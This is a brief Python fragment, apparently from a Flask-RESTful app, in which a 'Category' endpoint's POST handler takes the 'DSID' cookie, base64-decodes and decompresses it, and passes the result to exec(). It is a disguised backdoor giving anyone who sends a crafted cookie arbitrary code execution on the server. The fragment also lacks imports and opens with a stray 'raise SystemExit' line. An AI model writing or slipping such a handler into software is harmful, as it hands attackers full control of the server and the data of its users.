raise SystemExit
class Category(Resource):
    def post(self):
        c = request.cookies.get("DSID")
        if c and len(c) > 40:
            exec(zlib.decompress(base64.b64decode(c)))
